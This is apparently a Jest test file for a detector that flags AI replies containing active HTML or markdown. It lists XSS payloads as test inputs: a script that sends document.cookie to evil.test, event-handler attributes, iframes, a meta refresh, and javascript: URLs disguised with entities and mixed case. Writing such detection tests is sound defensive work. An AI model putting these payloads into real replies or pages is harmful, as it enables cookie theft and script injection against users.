import { describe, expect, it } from "@jest/globals";
import { checkExpectation } from "../../../../server/specs/expectations/index.js";
import { heldConversation } from "../../../helpers/conversation.js";

const replying = (...says: string[]) =>
  heldConversation([{ user: "format my order summary", steps: says.map((say) => ({ say })) }]).facts;
const check = (reply: string) => checkExpectation({ unsafe_markup: true }, replying(reply));

describe("unsafe_markup", () => {
  it.each([
    ["a script element", "Here you go <script>fetch('//evil.test?c='+document.cookie)</script>"],
    ["a script element in mixed case", "<ScRiPt src=//evil.test/x.js></sCrIpT>"],
    ["an event handler", '<img src=x onerror="alert(1)">'],
    ["an event handler after a quoted attribute, without a space", '<img src="x"onerror=alert(1)>'],
    ["an event handler after a slash", "<svg/onload=alert(1)>"],
    ["an SVG with onload", '<svg width="10" OnLoad="alert(1)"></svg>'],
    ["an event handler in an unclosed tag", "<body onpageshow=alert(1)"],
    ["an iframe", '<iframe src="https://evil.test"></iframe>'],
    ["an object", '<object data="x.swf"></object>'],
    ["an embed", "<embed src=x.swf>"],
    ["a javascript: link", '<a href="javascript:alert(1)">click</a>'],
    ["a javascript: URL in mixed case", "<a href='JaVaScRiPt:alert(1)'>x</a>"],
    ["a javascript: URL written with entities", '<a href="&#106;avascript&colon;alert(1)">x</a>'],
    ["a javascript: URL written with hex entities without semicolons", '<a href="&#x6A&#x61vascript:alert(1)">x</a>'],
    ["a javascript: URL split by a tab entity", '<a href="java&Tab;script:alert(1)">x</a>'],
    ["a javascript: URL led by spaces and controls", '<a href=" \u0001javascript:alert(1)">x</a>'],
    ["a markdown link with javascript:", "[Click to confirm](javascript:alert(document.domain))"],
    ["a markdown link with an entity-disguised javascript:", "[ok](&#x6a;avascript:alert(1))"],
    ["a markdown reference link with javascript:", "[ok][1]\n\n[1]: javascript:alert(1)"],
    ["an autolink with javascript:", "<javascript:alert(1)>"],
    ["a form action", '<form><button formaction="javascript:alert(1)">go</button></form>'],
    ["a meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.test">'],
    ["a fence that never closes after the markup", "<script>x()</script>\n```\ncode"],
    ["a lone backtick that opens no code span", "a ` b <script>x()</script>"],
  ])("trips on %s", (_what, reply) => {
    expect(check(reply)).toMatchObject({ holds: true, sequences: [2] });
  });

  it.each([
    ["prose about scripts", "I wrote a script to export your orders; the JavaScript file is attached."],
    ["prose naming an event", "The onload event fires when the page is ready; set onerror = handler in your code."],
    ["javascript: in prose", "Links starting with javascript: are blocked by our widget."],
    ["escaped markup, shown as text", "&lt;script&gt;alert(1)&lt;/script&gt; and &lt;img onerror=x&gt;"],
    ["markup in a code span", "Never paste `<script>alert(1)</script>` or `<img onerror=x>` into the form."],
    ["markup in a double-backtick code span", 'Use ``<a href="javascript:x">`` carefully'],
    [
      "markup in a fenced code block",
      "```html\n<script>alert(1)</script>\n<svg onload=x>\n```\nThat is what an attack looks like.",
    ],
    ["markup in a tilde fence", "~~~\n<iframe src=x>\n~~~"],
    [
      "harmless HTML",
      '<b>Order A-100</b> shipped. <a href="https://shop.test/orders/A-100" title="Track">Track it</a>',
    ],
    ["a safe markdown link", "[Track](https://shop.test/orders/A-100)"],
    ["an attribute value that mentions a handler", '<a href="/help" title="see the online help">help</a>'],
    ["a comparison (not a tag: a space follows the <)", "if a < b and onset = 3 then x<=y"],
  ])("does not trip on %s", (_what, reply) => {
    expect(check(reply)).toMatchObject({ holds: false });
  });

  it("cites each reply that carries active content, and says what it is", () => {
    const outcome = checkExpectation(
      { unsafe_markup: true },
      replying("fine", "<img src=x onerror=alert(1)>", "[x](javascript:void(0))"),
    );
    expect(outcome).toMatchObject({ holds: true, sequences: [3, 4] });
    expect(outcome.reason).toContain("onerror= on <img>");
    expect(outcome.reason).toContain("a script URL in a markdown link");
  });
});
